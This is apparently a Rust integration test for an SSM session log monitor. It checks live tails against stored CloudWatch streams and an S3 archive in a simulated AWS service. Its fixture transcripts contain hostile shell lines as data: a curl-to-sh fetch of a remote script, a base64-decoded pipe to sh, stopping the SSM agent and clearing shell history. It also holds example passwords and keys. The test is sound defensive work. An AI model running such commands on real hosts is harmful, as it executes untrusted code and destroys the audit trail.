//! What sessions leave in the log, as a tail sees it come and as it is read afterwards.

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::{collections::BTreeMap, net::SocketAddr, time::Duration};

use aws_config::{BehaviorVersion, Region, SdkConfig, retry::RetryConfig};
use aws_credential_types::{Credentials, provider::SharedCredentialsProvider};
use aws_sdk_cloudwatchlogs::Client;
use aws_smithy_types::error::metadata::ProvideErrorMetadata;
use ssmwatch::sim::{Sim, scenario::Scenario, world::World};

const MEMBER: &str = "111122223333";
const ARCHIVE: &str = "444455556666";
const GROUP: &str = "/ssm-session-logs";
const BUCKET: &str = "central-log-ssm-audit-eu-central-1-o-example";
/// Script seconds in one second of the wall clock.
const SPEED: f64 = 10.0;
/// Script seconds after which everything has happened.
const DONE: f64 = 80.0;
const PLACES: [(&str, &str); 4] =
    [(MEMBER, "eu-central-1"), (MEMBER, "us-east-1"), (ARCHIVE, "eu-central-1"), (ARCHIVE, "us-east-1")];

/// Time stamp, time of ingestion, message.
type Event = (i64, i64, String);

fn config(sim: &Sim, account: &str, region: &'static str) -> SdkConfig {
    let credentials = Credentials::new(account, "any secret", None, None, "test");
    SdkConfig::builder()
        .behavior_version(BehaviorVersion::latest())
        .region(Region::new(region))
        .credentials_provider(SharedCredentialsProvider::new(credentials))
        .endpoint_url(sim.endpoint())
        .retry_config(RetryConfig::disabled())
        .build()
}

/// Everything that a tail of the group delivers until the world is done, by stream.
async fn tail(endpoint: String, config: SdkConfig, arn: String) -> BTreeMap<String, Vec<Event>> {
    let start = Client::new(&config).start_live_tail().log_group_identifiers(arn).customize();
    let start = start.mutate_request(move |request| request.set_uri(format!("{endpoint}/")).unwrap());
    let mut stream = start.send().await.unwrap().response_stream;
    let until = tokio::time::Instant::now() + Duration::from_secs_f64(DONE / SPEED);
    let mut seen: BTreeMap<String, Vec<Event>> = BTreeMap::new();
    while let Ok(event) = tokio::time::timeout_at(until, stream.recv()).await {
        let event = event.unwrap().expect("not over");
        let Ok(update) = event.as_session_update() else { continue };
        assert!(!update.session_metadata().unwrap().sampled());
        for event in update.session_results() {
            let event_of =
                (event.timestamp().unwrap(), event.ingestion_time().unwrap(), event.message().unwrap().to_owned());
            seen.entry(event.log_stream_name().unwrap().to_owned()).or_default().push(event_of);
        }
    }
    seen
}

/// The stream from its head by forward tokens; none: it is gone.
async fn read(logs: &Client, stream: &str) -> Option<Vec<Event>> {
    let mut events = Vec::new();
    let mut token: Option<String> = None;
    loop {
        let page = logs.get_log_events().log_group_name(GROUP).log_stream_name(stream).start_from_head(true);
        let page = match page.set_next_token(token.clone()).send().await {
            Ok(page) => page,
            Err(error) => {
                assert_eq!(error.as_service_error().unwrap().code(), Some("ResourceNotFoundException"));
                return None;
            }
        };
        events.extend(page.events().iter().map(|event| {
            (event.timestamp().unwrap(), event.ingestion_time().unwrap(), event.message().unwrap().to_owned())
        }));
        let next = page.next_forward_token().map(str::to_owned);
        if next == token {
            return Some(events);
        }
        token = next;
    }
}

fn lines(events: &[Event]) -> Vec<String> {
    let mut lines = Vec::new();
    for (.., message) in events {
        let Ok(event) = serde_json::from_str::<serde_json::Value>(message) else {
            lines.push(message.clone());
            continue;
        };
        lines.extend(event["sessionData"].as_array().unwrap().iter().map(|line| line.as_str().unwrap().to_owned()));
    }
    lines
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tails_and_readers_agree_about_everything_that_a_transcript_can_show_or_hide() {
    let quiet = include_str!("../src/sim/scenarios/quiet.toml");
    let scenario = Scenario::parse("transcripts", &format!("{quiet}\n{}", include_str!("fixtures/transcripts.toml")));
    let mut world = World::new(&scenario.unwrap(), 1, SPEED, jiff::Timestamp::now());
    world.gate.rate("*", "*", "*", 1000.0, 1000.0);
    let sim = Sim::start(SocketAddr::from(([127, 0, 0, 1], 0)), world).await.unwrap();
    let tails = PLACES.map(|(account, region)| {
        let arn = format!("arn:aws:logs:{region}:{account}:log-group:{GROUP}");
        tokio::spawn(tail(sim.endpoint(), config(&sim, account, region), arn))
    });
    let mut seen: BTreeMap<String, Vec<Event>> = BTreeMap::new();
    for ((account, region), tail) in PLACES.into_iter().zip(tails) {
        let logs = Client::new(&config(&sim, account, region));
        for (stream, tailed) in tail.await.unwrap() {
            if let Some(stored) = read(&logs, &stream).await {
                let from = stored.iter().position(|event| *event == tailed[0]).unwrap();
                assert!(stored[from..].starts_with(&tailed), "{stream}: the tail differs from the stream");
            } else {
                assert_eq!(stream, "deleted-00000000000000014");
            }
            seen.insert(stream, tailed);
        }
    }
    let of = |name: &str| {
        let found = seen.iter().find(|(stream, _)| stream.rsplit_once('-').unwrap().0 == name);
        lines(found.unwrap_or_else(|| panic!("nothing of {name}")).1)
    };
    let has = |name: &str, wanted: &[&str]| {
        let lines = of(name);
        for wanted in wanted {
            assert!(lines.iter().any(|line| line.contains(wanted)), "{name} lacks {wanted:?}: {lines:#?}");
        }
        lines
    };

    has(
        "typed",
        &["$ curl -s http://203.0.113.9/x.sh | sh", "base64 -d | sh", "$ sudo systemctl stop amazon-ssm-agent"],
    );
    assert_eq!(has("recon", &["$ sudo -l"]).iter().filter(|line| line.contains("sh-5.2$ ")).count(), 6);
    has("secrets", &["-pExample-Passw0rd", "=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]);
    assert!(!has("hidden", &["$ stty -echo", "ssm-user", "uid=1001"]).iter().any(|line| line.contains("history")));
    has("printed", &["sh-5.2$ sudo systemctl stop amazon-ssm-agent", "    history -c"]);
    has(
        "edited",
        &[
            "sh-5.2$ cat /etc/hostnameid -u",
            "sh-5.2$ rm file\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}sudo ",
            "(reverse-i-search)`",
            "sh-5.2$ sh-5.2$ date",
            "sh-5.2$ lssh-5.2$ ls -la",
            "sh-5.2$ pwdpwd",
        ],
    );
    has("erased", &["$ lss\u{8} \u{8} -l"]);
    has("titled", &["\u{1b}]0;root@payments-web-3:~\u{7}[root@payments-web-3 ~]# history -d\u{8}\u{1b}[Kc"]);
    has("screens", &["\u{1b}[?1049h", ":wq\"app.conf\"", "\u{1b}[?1049l", "\u{1b}(B\u{1b}[m"]);
    let damaged =
        has("damaged", &["don\u{fffd}t \u{fffd} panic: é 你好 \u{fffd}", "bin\u{fffd}\u{fffd}", "0 43 10.0M"]);
    // Cut every 33,000 raw bytes; from the first piece the agent took what readline printed before it.
    let pieces: Vec<usize> = damaged.iter().map(String::len).filter(|length| *length > 1_000).collect();
    assert_eq!(pieces, [32_991, 33_000, 33_000, 1_009]);
    let largest = seen["flood-00000000000000011"].iter().map(|event| lines(std::slice::from_ref(event)).len()).max();
    assert_eq!(largest, Some(11_000));
    let replayed = of("replayed");
    assert_eq!(replayed.iter().filter(|line| *line == "entry 6").count(), 2, "{replayed:?}");
    let forged = &seen["forged-00000000000000013"];
    let claims: Vec<bool> = forged.iter().map(|event| event.2.contains("\"sessionId\":\"forged-")).collect();
    assert!(claims.iter().filter(|own| !**own).count() == 3, "{forged:#?}");
    assert!(has("deleted", &["$ echo before"]).iter().all(|line| !line.contains("after")));
    let windows = has("powershell", &["\u{feff}****", "PS C:\\Windows\\system32> Clear-History"]);
    assert!(!windows.iter().any(|line| line.contains('\r')));

    for (name, wanted) in [("uploaded", "[Kid\r\n"), ("command", "history -c\r\n42 rows\r\n")] {
        let all = of(name);
        assert_eq!(all.len(), 1, "{all:?}");
        assert!(all[0].starts_with("Script started on ") && all[0].contains(wanted), "{:?}", all[0]);
        assert!(all[0].lines().last().unwrap().starts_with("Script done on "), "{:?}", all[0]);
    }
    let s3 = aws_sdk_s3::config::Builder::from(&config(&sim, ARCHIVE, "eu-central-1")).force_path_style(true);
    let s3 = aws_sdk_s3::Client::from_conf(s3.build());
    let key = format!("{MEMBER}/eu-central-1/deleted-00000000000000014.log");
    let object = s3.get_object().bucket(BUCKET).key(key).send().await.unwrap();
    let text = String::from_utf8(object.body.collect().await.unwrap().to_vec()).unwrap();
    assert!(text.contains("$ echo before\r\r\n") && text.contains("$ echo after\r\r\n"), "{text}");
}
